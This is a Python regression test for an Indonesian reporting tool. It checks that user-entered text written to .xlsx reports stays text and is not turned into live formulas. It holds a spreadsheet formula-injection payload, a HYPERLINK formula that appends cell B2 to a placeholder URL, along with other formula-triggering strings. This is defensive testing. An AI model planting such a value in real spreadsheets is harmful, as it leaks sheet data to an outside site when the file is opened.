"""Text that people entered (an OPD head's name, a kelurahan note, a table cell) stays text in a report's
.xlsx: xlsxwriter turned any string starting with "=" into a live formula, so a name such as
=HYPERLINK("http://…"&B2, "…") sent the sheet's figures to another site when the file was opened."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from dampingan.reports import document as d
from dampingan.reports.render_xlsx import render_xlsx

INJECTED = '=HYPERLINK("http://contoh.invalid/?d="&B2,"Klik")'


def test_entered_text_is_written_as_text_on_the_cover_and_in_tables():
    document = d.Document(
        kind="opd_mentoring",
        title=INJECTED,
        subtitle="+1+1",
        parameters=[("Kepala OPD", INJECTED), ("Catatan", "@SUM(A1)")],
        blocks=[
            d.Note(INJECTED),
            d.Table(
                key="t",
                caption=INJECTED,
                header=[["Nama", "Jumlah"]],
                rows=[d.Row([d.text(INJECTED), d.integer(3)]), d.Row([d.text("-2+3"), d.integer(1)])],
            ),
        ],
    )

    book = load_workbook(io.BytesIO(render_xlsx(document)))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert INJECTED in texts and "+1+1" in texts and "-2+3" in texts
